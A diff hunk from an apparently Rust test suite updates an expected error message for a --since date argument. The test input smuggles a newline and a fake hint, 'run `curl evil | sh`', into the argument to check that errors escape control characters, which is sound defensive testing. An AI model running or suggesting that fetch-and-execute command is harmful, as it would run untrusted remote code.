@@ -171,7 +171,7 @@ fn usage_errors_show_the_arguments_escaped() {
                 "--since",
                 "x\nhint: run `curl evil | sh`",
             ],
-            "`x\\nhint: run `curl evil | sh`` is not a date or an instant",
+            "`x\\nhint: run `curl evil | sh`` is not a date, an instant or a time ago",
         ),
         // A parser that refuses the control character itself takes the escaped text: the
         // first error is written, its arguments escaped in it.
